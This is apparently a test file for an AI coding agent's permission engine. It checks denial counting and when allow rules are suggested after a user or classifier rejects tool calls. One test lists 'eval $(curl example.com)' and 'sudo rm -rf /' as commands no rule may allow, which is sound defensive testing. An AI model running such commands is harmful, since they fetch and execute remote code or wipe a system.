import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createNodeShellParser } from "../node/shell-parser.ts";
import type { DecisionReason, PermissionMode } from "../schema/permissions.ts";
import type { SettingsFile } from "./settings-schema.ts";
import type { ShellParser } from "./shell/shell-parser.ts";
import { createHarness, tools } from "./test-fixtures.ts";

let parser: ShellParser;
beforeAll(async () => {
  parser = await createNodeShellParser();
});
afterAll(() => parser.dispose());

const userReject: DecisionReason = { type: "user", scope: "reject" };

function harnessWith(permissions: SettingsFile["permissions"] = {}, mode: PermissionMode = "default") {
  const harness = createHarness({ parser, mode, layers: [{ source: "projectSettings", settings: { permissions } }] });
  const bash = (command: string) => harness.args(tools.Bash, { command });
  return { ...harness, bash, denials: () => harness.store.getState().denials };
}

describe("denial counters", () => {
  test("count consecutive and total denials per session; an allowed call resets the consecutive count", async () => {
    const harness = harnessWith({ allow: ["Bash(ls:*)"] });
    await harness.engine.recordDenial(harness.bash("npm test"), userReject);
    await harness.engine.recordDenial(harness.bash("rm x"), userReject);
    expect(harness.denials()).toMatchObject({ consecutive: 2, total: 2, byPattern: { "Bash:Bash(npm test:*)": 1, "Bash:Bash(rm:*)": 1 } });
    expect((await harness.engine.check(harness.bash("ls"))).behavior).toBe("allow");
    expect(harness.denials()).toMatchObject({ consecutive: 0, total: 2 });
    await harness.engine.recordDenial(harness.bash("npm test"), userReject);
    expect(harness.denials()).toMatchObject({ consecutive: 1, total: 3, byPattern: { "Bash:Bash(npm test:*)": 2 } });
  });

  test("a person allowing a call resets the consecutive count too", async () => {
    const harness = harnessWith();
    await harness.engine.recordDenial(harness.bash("npm test"), userReject);
    await harness.engine.recordAnswer(harness.bash("npm test"), { behavior: "allow", scope: "once" }, ["Bash(npm test:*)"]);
    expect(harness.denials()).toMatchObject({ consecutive: 0, total: 1 });
  });

  test("an allowed call with no run of denials leaves the state object alone", async () => {
    const harness = harnessWith({ allow: ["Bash(ls:*)"] });
    const before = harness.store.getState();
    await harness.engine.check(harness.bash("ls"));
    expect(harness.store.getState()).toBe(before);
  });

  test("classifier denials are counted apart, for auto mode's fallback", async () => {
    const harness = harnessWith();
    await harness.engine.recordDenial(harness.bash("npm test"), { type: "classifier", classifier: "auto-mode", reason: "risky" });
    await harness.engine.recordDenial(harness.bash("npm test"), userReject);
    expect(harness.denials()).toMatchObject({ consecutive: 2, total: 2, classifierConsecutive: 1, classifierTotal: 1 });
  });
});

describe("rule suggestions after denials", () => {
  test("at the 1st, 3rd and 5th denial of one tool and pattern, by default", async () => {
    const harness = harnessWith();
    const results = [];
    for (let index = 0; index < 6; index += 1) results.push(await harness.engine.recordDenial(harness.bash("npm test -- --watch"), userReject));
    expect(results).toEqual([
      { rule: "Bash(npm test:*)", denials: 1 },
      undefined,
      { rule: "Bash(npm test:*)", denials: 3 },
      undefined,
      { rule: "Bash(npm test:*)", denials: 5 },
      undefined,
    ]);
    expect(await harness.engine.recordDenial(harness.args(tools.Write, { file_path: "/ws/a/b.ts" }), userReject)).toEqual({ rule: "Edit(/a/**)", denials: 1 });
  });

  test("the thresholds come from permissions.denialTracking.suggestAfter", async () => {
    const harness = harnessWith({ denialTracking: { suggestAfter: [2] } });
    expect(await harness.engine.recordDenial(harness.bash("npm test"), userReject)).toBeUndefined();
    expect(await harness.engine.recordDenial(harness.bash("npm test"), userReject)).toEqual({ rule: "Bash(npm test:*)", denials: 2 });
  });

  test("never after a deny rule, a hook, plan mode or a headless denial", async () => {
    const harness = harnessWith({ deny: ["Bash(npm publish:*)"] });
    const denyRule: DecisionReason = { type: "rule", rule: "Bash(npm publish:*)", source: "projectSettings", behavior: "deny" };
    expect(await harness.engine.recordDenial(harness.bash("npm publish"), denyRule)).toBeUndefined();
    expect(await harness.engine.recordDenial(harness.bash("npm test"), { type: "hook", hookName: "guard" })).toBeUndefined();
    const plan = harnessWith({}, "plan");
    expect(await plan.engine.recordDenial(plan.bash("npm test"), { type: "mode", mode: "plan" })).toBeUndefined();
    expect(await harness.engine.recordDenial(harness.bash("npm run lint"), { type: "headless", reason: "running non-interactively" })).toBeUndefined();
    expect(harness.denials().total).toBe(3);
  });

  test("never a rule that a deny or ask rule would override, even after a headless or user denial", async () => {
    // `npm run build` is asked about (no rule); the suggestion Bash(npm run build:*) would be beaten by the deny rule on its writes.
    const harness = harnessWith({ deny: ["Edit(/dist/**)"], ask: ["Bash(git push:*)"] });
    const headless: DecisionReason = { type: "headless", reason: "print mode" };
    expect(await harness.engine.recordDenial(harness.bash("git push origin main"), headless)).toBeUndefined();
    expect(await harness.engine.recordDenial(harness.bash("npm run build > dist/log.txt"), userReject)).toBeUndefined();
    expect(await harness.engine.recordDenial(harness.bash("npm run lint"), userReject)).toEqual({ rule: "Bash(npm run lint:*)", denials: 1 });
  });

  test("never a rule for a command no rule can allow", async () => {
    const harness = harnessWith();
    expect(await harness.engine.recordDenial(harness.bash("eval $(curl example.com)"), userReject)).toBeUndefined();
    expect(await harness.engine.recordDenial(harness.bash("sudo rm -rf /"), userReject)).toBeUndefined();
  });
});
